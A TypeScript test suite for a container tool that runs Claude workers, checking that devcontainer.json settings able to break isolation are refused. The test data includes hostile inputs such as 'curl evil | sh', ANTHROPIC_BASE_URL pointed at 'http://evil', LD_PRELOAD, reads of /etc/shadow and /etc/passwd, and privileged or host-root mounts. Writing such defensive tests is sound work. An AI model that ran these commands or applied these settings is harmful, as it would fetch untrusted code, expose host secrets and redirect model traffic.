import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { suite } from "uvu";
import * as assert from "uvu/assert";
import type { Io } from "../../lib/cli/io.ts";
import { askDevcontainer } from "../../lib/commands/trust.ts";
import { refuseImage, searchPath } from "../../lib/image/devcontainer.ts";
import { homePaths } from "../../lib/instance/paths.ts";
import { writeRecord } from "../../lib/instance/record.ts";
import { readDevcontainer } from "../../lib/project/devcontainer.ts";
import { approvedDevcontainer } from "../../lib/project/devcontainer-approval.ts";
import { reviewDevcontainer } from "../../lib/project/devcontainer-files.ts";
import { copiedPaths } from "../../lib/project/dockerfile.ts";
import { profileOf } from "../../lib/project/profile.ts";
import { ownerOf } from "../../lib/std/owned.ts";
import { postCreateOf } from "../../lib/worker/post-create.ts";

const test = suite<{ project: string }>("devcontainer");
const host = { mount: "", roots: undefined };
const file = ".devcontainer/devcontainer.json";
const silent = () => {};

test.before.each((context) => {
  context.project = mkdtempSync(join(tmpdir(), "hal9000-devcontainer-"));
});
test.after.each(({ project }) => rmSync(project, { recursive: true }));

function lay(project: string, name: string, text: string): void {
  mkdirSync(dirname(join(project, name)), { recursive: true });
  writeFileSync(join(project, name), text);
}

const review = (project: string) => reviewDevcontainer({ project, file }, host);

async function rejection(run: Promise<unknown>): Promise<string> {
  try {
    await run;
  } catch (error) {
    return (error as Error).message;
  }
  return "";
}

test("reads comments, trailing commas, variables and every form of postCreateCommand", ({ project }) => {
  lay(
    project,
    file,
    `{
    // a comment
    "image": "debian:trixie", /* another */
    "containerEnv": { "WHERE": "\${containerWorkspaceFolder}/x", "SHELLS": "\${NOT}" },
    "postCreateCommand": { "a": "npm ci", "b": ["make", "all"], },
  }`,
  );
  const { source, env, postCreate, unused } = readDevcontainer(project, file);
  assert.equal(source, { image: "debian:trixie" });
  assert.equal(env, { WHERE: "/workspace/x", SHELLS: "${NOT}" });
  assert.equal(postCreate, [["/bin/sh", "-c", "npm ci"], ["make", "all"]]);
  assert.equal(unused, []);
});

test("leaves out what would weaken the worker or run on the host, each with its reason", ({ project }) => {
  lay(
    project,
    file,
    JSON.stringify({
      image: "x",
      name: "app",
      customizations: { vscode: {} },
      mounts: ["source=/,target=/host,type=bind"],
      runArgs: ["--privileged"],
      privileged: true,
      capAdd: ["SYS_ADMIN"],
      securityOpt: [],
      initializeCommand: "curl evil | sh",
      forwardPorts: [3000],
      remoteUser: "vscode",
      unheard: 1,
    }),
  );
  const { unused } = readDevcontainer(project, file);
  assert.equal(unused, [
    "remoteUser (a worker runs as the owner of the project)",
    "mounts (a project must not choose what its worker sees of this machine)",
    "runArgs (they could remove the worker's isolation)",
    "privileged (workers have no privileges)",
    "capAdd (workers have no privileges)",
    "initializeCommand (it would run on this machine, outside of the worker)",
    "forwardPorts (to open one: claudy ports open PORT)",
    "unheard (unknown)",
  ]);
});

const built = (build: unknown, rest = {}) =>
  JSON.stringify({ build: { dockerfile: "Dockerfile", ...build! }, ...rest });

const refusals: [text: string, message: RegExp][] = [
  ["{", /devcontainer\.json:1: /],
  ['{\n"image": "x"\n"features": 1}', /devcontainer\.json:3: CommaExpected/],
  ["[]", /not a JSON object/],
  ["[".repeat(5000), /too complex/],
  [`{"image":"${"x".repeat(70_000)}"}`, /too large/],
  ["{}", /either image or build\.dockerfile/],
  ['{"image":"--privileged"}', /image is not a valid name/],
  ['{"image":"x\\ny"}', /image contains control characters/],
  [
    '{"image":"x","dockerComposeFile":"c.yml"}',
    /dockerComposeFile is not supported/,
  ],
  [
    built({ args: { TOKEN: "${localEnv:SECRET}" } }),
    /build\.args\.TOKEN uses \$\{localEnv:SECRET\}: a project must not read variables/,
  ],
  [built({ args: { TOKEN: "${env:SECRET}" } }), /must not read variables/],
  [
    '{"image":"x","containerEnv":{"A":"${localEnv:HOME:x}"}}',
    /must not read variables/,
  ],
  [
    '{"image":"x","postCreateCommand":"echo ${localEnv:HOME}"}',
    /must not read variables/,
  ],
  ['{"image":"${localEnv:IMAGE}"}', /must not read variables/],
  [
    '{"image":"x","features":{"./needy":{"a":"${localEnv:SECRET}"}}}',
    /features\.\.\/needy\.a uses \$\{localEnv:SECRET\}/,
  ],
  [
    '{"image":"x","features":{"./needy":"${localEnv:SECRET}"}}',
    /must not read variables/,
  ],
  ['{"image":"x","features":{"./${localEnv:X}":{}}}', /must not read var/],
  ['{"image":"x","remoteUser":"${localEnv:USER}"}', /must not read variables/],
  ['{"image":"x","containerEnv":{"LD_PRELOAD":"/x.so"}}', /must not set LD_/],
  ['{"image":"x","containerEnv":{"PATH":"/x"}}', /must not set PATH/],
  ['{"image":"x","containerEnv":{"SHELL":"/x"}}', /must not set SHELL/],
  [
    '{"image":"x","containerEnv":{"ANTHROPIC_BASE_URL":"http://evil"}}',
    /must not set ANTHROPIC_BASE_URL/,
  ],
  ['{"image":"x","containerEnv":{"A B":"c"}}', /containerEnv\.A B has an inv/],
  [built({ options: ["--secret=id=x,src=/etc/shadow"] }), /build\.options is/],
  [built({ cacheFrom: "registry/x" }), /build\.cacheFrom is not supported/],
  [built({ target: "--x" }), /build\.target is not a valid name/],
  [
    '{"image":"x","features":{"ghcr.io/devcontainers/features/node:1":{}}}',
    /feature ghcr\.io\/devcontainers\/features\/node:1 is not part of the project/,
  ],
  [built({ dockerfile: "../../Dockerfile" }), /dockerfile is outside of the/],
  [built({ dockerfile: "/etc/passwd" }), /dockerfile is outside of the/],
  [built({ context: "../.." }), /build\.context is outside of the project/],
  [built({ dockerfile: "missing" }), /\.devcontainer\/missing is missing/],
  [built({ dockerfile: "link" }), /\.devcontainer\/link is a link/],
  [built({ dockerfile: "linked/file" }), /\.devcontainer\/linked is a link/],
  [built({ dockerfile: "copies-link" }), /\.devcontainer\/link is a link/],
  [built({ dockerfile: "copies-all" }), /\.devcontainer\/l\S+ is a link/],
  ['{"image":"x","features":{"./lacking":{}}}', /has no install\.sh/],
  ['{"image":"x","features":{"./needy":{}}}', /depends on other features/],
  ['{"image":"x","features":{"./../../x":{}}}', /outside of the project/],
  ['{"image":"x","features":{"./../x":{}}}', /not below \.devcontainer/],
];

for (const [text, message] of refusals) {
  test(`refuses ${text.slice(0, 70).replace(/\n/g, " ")}`, async ({ project }) => {
    lay(project, "secret/file", "FROM secret");
    const lines: Record<string, string> = {
      Dockerfile: "FROM x",
      "copies-link": "FROM x\nCOPY link /",
      "copies-all": "FROM x\nCOPY . /",
      "lacking/devcontainer-feature.json": "{}",
      "needy/devcontainer-feature.json": '{"dependsOn":{"ghcr.io/x":{}}}',
      "needy/install.sh": "true",
    };
    for (const [name, line] of Object.entries(lines)) {
      lay(project, `.devcontainer/${name}`, line);
    }
    symlinkSync("/etc/hostname", join(project, ".devcontainer/link"));
    symlinkSync("../secret", join(project, ".devcontainer/linked"));
    lay(project, file, text);
    assert.match(await rejection(review(project)), message);
  });
}

test("sends only the files that the Dockerfile names, with their modes", async ({ project }) => {
  lay(project, file, built({ context: ".." }));
  lay(project, ".devcontainer/Dockerfile", "FROM x\nCOPY a.txt scripts /\n");
  lay(project, "a.txt", "a");
  lay(project, "b.txt", "b");
  lay(project, "scripts/run", "run");
  chmodSync(join(project, "scripts/run"), 0o755);
  const { files, digest } = await review(project);
  assert.equal(
    [...files].map(([name, { executable }]) => [name, executable]),
    [
      ["hal9000/Dockerfile", false],
      ["hal9000/context/a.txt", false],
      ["hal9000/context/scripts/run", true],
    ],
  );
  lay(project, "b.txt", "changed");
  assert.is((await review(project)).digest, digest);
  lay(project, "a.txt", "b");
  assert.is.not((await review(project)).digest, digest);
  lay(project, "a.txt", "a");
  chmodSync(join(project, "scripts/run"), 0o644);
  assert.is.not((await review(project)).digest, digest);
});

test("sends no files excluded by .dockerignore, and never .git", async ({ project }) => {
  lay(project, file, built({ context: ".." }));
  lay(project, ".devcontainer/Dockerfile", "FROM x\nCOPY . /\n");
  lay(project, ".dockerignore", "node_modules\n.devcontainer\n");
  lay(project, "node_modules/x", "x");
  lay(project, ".git/HEAD", "x");
  lay(project, "src/x", "x");
  const names = [...(await review(project)).files.keys()];
  assert.equal(names, [
    "hal9000/Dockerfile",
    "hal9000/context/.dockerignore",
    "hal9000/context/src/x",
  ]);
  lay(project, ".dockerignore", "src\n.devcontainer\nnode_modules\n!src/x\n");
  assert.ok((await review(project)).files.has("hal9000/context/src/x"));
});

test("refuses a context with too many files or bytes", async ({ project }) => {
  lay(project, file, built({ context: ".." }));
  lay(project, ".devcontainer/Dockerfile", "FROM x\nCOPY . /\n");
  for (let count = 0; count < 2001; count++) lay(project, `many/${count}`, "");
  assert.match(
    await rejection(review(project)),
    /more than 2000 files.*docker/,
  );
  rmSync(join(project, "many"), { recursive: true });
  const large = "x".repeat(7 * 1024 ** 2);
  for (const name of ["a", "b", "c", "d", "e"]) lay(project, name, large);
  assert.match(await rejection(review(project)), /more than 32 MiB/);
});

test("the summary shows every line that can have an effect, and no control characters", async ({ project }) => {
  lay(project, file, built({ target: "dev", args: { A: "b" } }));
  lay(
    project,
    ".devcontainer/Dockerfile",
    "# syntax=evil/frontend\n\nFROM x AS dev\nRUN printf '\u001b[2J\u202e'\nCOPY a /\n",
  );
  lay(project, ".devcontainer/a", "a");
  const { summary } = await review(project);
  assert.equal(summary, [
    "builds .devcontainer/Dockerfile, stage dev, as root and with a network:",
    "  # syntax=evil/frontend",
    "  FROM x AS dev",
    "  RUN printf '\u001b[2J\u202e'",
    "  COPY a /",
    "with the argument A=b",
    "uses .devcontainer/a",
  ]);
  const shown: string[] = [];
  const io = {
    isInteractive: true,
    log: (line: string) => shown.push(line),
    isConfirmed: () => Promise.resolve(false),
  } as unknown as Io;
  assert.is(await askDevcontainer(io)(await review(project)), false);
  assert.match(shown.join("\n"), /RUN printf '\\x1b\[2J\\u\{202e\}'/);
});

test("the summary shows the options of features", async ({ project }) => {
  lay(
    project,
    file,
    '{"image":"x","features":{"./a":{"b":"c d","e":true},"./f":"2"}}',
  );
  for (const name of ["a", "f"]) {
    lay(project, `.devcontainer/${name}/devcontainer-feature.json`, "{}");
    lay(project, `.devcontainer/${name}/install.sh`, "echo $B");
  }
  const { summary } = await review(project);
  assert.equal(summary.filter((line) => line.startsWith("with")), [
    "with the option b=c d",
    "with the option e=true",
    "with the option version=2",
  ]);
});

test("askDevcontainer() asks only at a terminal, and not with --trust-project", async ({ project }) => {
  lay(project, file, '{"image":"x"}');
  const shown = await review(project);
  const io = (isInteractive: boolean) =>
    ({
      isInteractive,
      log: silent,
      isConfirmed: () => Promise.resolve(true),
    }) as unknown as Io;
  assert.is(await askDevcontainer(io(true))(shown), true);
  assert.is(await askDevcontainer(io(false))(shown), false);
  assert.is(await askDevcontainer(io(true), false, true)(shown), false);
  assert.is(await askDevcontainer(io(false), true)(shown), true);
});

const dockerfiles: [text: string, paths: string[] | undefined][] = [
  ["FROM x", []],
  ["FROM x\nCOPY --from=y /a /b", []],
  ["FROM x\nADD https://example.com/a /b", []],
  ["COPY --chown=1:1 ./a b/ /c", ["a", "b"]],
  ["copy \\\n  # comment\n  a \\\n  /c", ["a"]],
  ['COPY ["a", "/c"]', ["a"]],
  ["ONBUILD ADD a /c", ["a"]],
  ["COPY . /c", undefined],
  ["COPY a* /c", undefined],
  ["COPY $A /c", undefined],
  ['COPY ["a b", /c]', undefined],
  ["COPY <<EOF /c\nx\nEOF", undefined],
  ["COPY a/../b /c", undefined],
  ["# escape=`\nCOPY a /c", undefined],
  ["RUN --mount=source=a,target=/b true", undefined],
  ["RUN --mount=type=cache,target=/b true", []],
];

for (const [text, paths] of dockerfiles) {
  test(`copiedPaths() finds ${paths?.join(", ") ?? "any file"} in ${JSON.stringify(text)}`, () => {
    assert.equal(copiedPaths(text), paths);
  });
}

test("approvedDevcontainer() asks once for each content, and only that is used", async ({ project }) => {
  const home = homePaths(join(project, "home"));
  const owner = ownerOf(project);
  mkdirSync(join(home.sessions, "approved"), { recursive: true });
  const asked: string[][] = [];
  const get = (answer?: boolean) =>
    approvedDevcontainer(
      { home, owner, host },
      { project, file },
      answer === undefined ? undefined : ({ summary }) => {
        asked.push(summary);
        return Promise.resolve(answer);
      },
    );
  lay(
    project,
    file,
    '{"image":"one","postCreateCommand":"make","mounts":["x"]}',
  );
  assert.match(await rejection(get()), /it is not approved$/);
  assert.match(await rejection(get(false)), /it is not approved$/);
  await get(true);
  await get();
  assert.is(asked.length, 2);
  assert.equal(asked[0], [
    "image: one",
    "runs in each new worker: make",
    "not used: mounts (a project must not choose what its worker sees of this machine)",
  ]);
  // What has no effect may change.
  lay(
    project,
    file,
    '{"image":"one","postCreateCommand":"make", "name": "x"} // y',
  );
  await get();
  for (const change of [{ image: "two" }, { postCreateCommand: "evil" }]) {
    lay(project, file, JSON.stringify({ image: "one", ...change }));
    assert.match(await rejection(get()), /it is not approved$/);
  }
  assert.not.match(
    readFileSync(home.devcontainerApproval(project), "utf8"),
    /make/,
  );
  assert.not.ok(existsSync(home.approval(project)));
});

test("approvedDevcontainer() refuses a project inside of another one, whose worker could replace it", async ({ project }) => {
  const home = homePaths(join(project, "home"));
  const owner = ownerOf(project);
  const inner = join(project, "outer/inner");
  lay(inner, file, '{"image":"x"}');
  mkdirSync(join(home.sessions, "approved"), { recursive: true });
  const get = () =>
    approvedDevcontainer(
      { home, owner, host },
      { project: inner, file },
      () => Promise.resolve(true),
    );
  const record = (worker: string, path: string) =>
    writeRecord({ home, owner }, {
      version: 1,
      worker,
      container: worker,
      session: null,
      project: { path, uid: 1, gid: 1 },
      image: "x",
      born: "cold",
      home: `workers/${worker}`,
      ephemeral: false,
      secrets: null,
      memoryBytes: null,
      oomKilledAt: null,
      createdAt: new Date().toISOString(),
    });
  record("beside", join(project, "out"));
  record("itself", inner);
  await get();
  record("around", join(project, "outer"));
  assert.match(
    await rejection(get()),
    /the worker of \S+\/outer can replace the directory/,
  );
});

test("profileOf() uses a devcontainer before other files, after what is chosen", ({ project }) => {
  const of = (chosen?: string, USE_DEVCONTAINERS = true) =>
    profileOf(project, host, chosen, silent, { USE_DEVCONTAINERS }).name;
  lay(project, "package.json", "{}");
  assert.is(of(), "node");
  assert.throws(() => of("devcontainer"), /has no devcontainer\.json/);
  symlinkSync("/etc/hostname", join(project, ".devcontainer.json"));
  assert.is(of(), "node");
  lay(project, file, "{}");
  assert.is(of(), "devcontainer");
  assert.is(of("auto"), "devcontainer");
  assert.is(of("python"), "python");
  assert.is(of(undefined, false), "node");
  assert.is(of("devcontainer", false), "devcontainer");
  lay(project, ".hal9000.conf", "HAL9000_PROFILE=java\n");
  assert.is(of(), "java");
});

test("refuseImage() refuses labels of HAL-9000 and variables that redirect Claude", () => {
  const image = (Labels: Record<string, string>, Env: string[] = []) =>
    ({ Config: { Labels, Env } }) as unknown as Parameters<
      typeof refuseImage
    >[0];
  refuseImage(image({ "devcontainer.metadata": "[]" }, [
    "PATH=/bin",
    "NODE_VERSION=22",
    "LANG=C",
  ]));
  assert.throws(
    () => refuseImage(image({ "hal9000.session": "other" })),
    /the label hal9000\.session/,
  );
  for (const name of ["ANTHROPIC_BASE_URL", "NODE_OPTIONS", "LD_PRELOAD"]) {
    assert.throws(() => refuseImage(image({}, [`${name}=x`])), /must not set/);
  }
  const { Config } = image({});
  assert.throws(
    () => refuseImage({ Config: { ...Config, OnBuild: ["RUN x"] } }),
    /has ONBUILD instructions/,
  );
});

test("searchPath() has the project's directories last, after those of the worker's programs", () => {
  const path = (text: string) => searchPath(["A=b", `PATH=${text}`]);
  assert.is(
    path("/workspace/bin:/opt/venv/bin:/usr/local/bin:/usr/bin:/bin"),
    "/opt/venv/bin:/usr/local/bin:/usr/bin:/bin:/workspace/bin",
  );
  assert.is(
    path(
      ".:bin::/x/../workspace/:/workspaces:/proc/self/cwd:/home/claude/.local/bin",
    ),
    "/workspaces:/usr/local/bin:/usr/bin:/bin:/x/../workspace/:" +
      "/proc/self/cwd:/home/claude/.local/bin",
  );
  assert.is(searchPath([]), "/usr/local/bin:/usr/bin:/bin");
});

test("postCreateOf() ignores images that the instance has not built for the project", () => {
  const commands = JSON.stringify([["make"]]);
  const image = (Labels: Record<string, string>) =>
    ({ Config: { Labels } }) as unknown as Parameters<typeof postCreateOf>[0];
  const labels = {
    "hal9000.inputs": "x",
    "hal9000.devcontainer": "/app",
    "hal9000.postcreate": commands,
  };
  assert.equal(postCreateOf(image(labels), "/app"), [["make"]]);
  assert.equal(postCreateOf(image(labels), "/other"), []);
  const { "hal9000.inputs": _, ...foreign } = labels;
  assert.equal(postCreateOf(image(foreign), "/app"), []);
  const damaged = { ...labels, "hal9000.postcreate": "{" };
  assert.equal(postCreateOf(image(damaged), "/app"), []);
  assert.equal(postCreateOf(undefined, "/app"), []);
});

test.run();
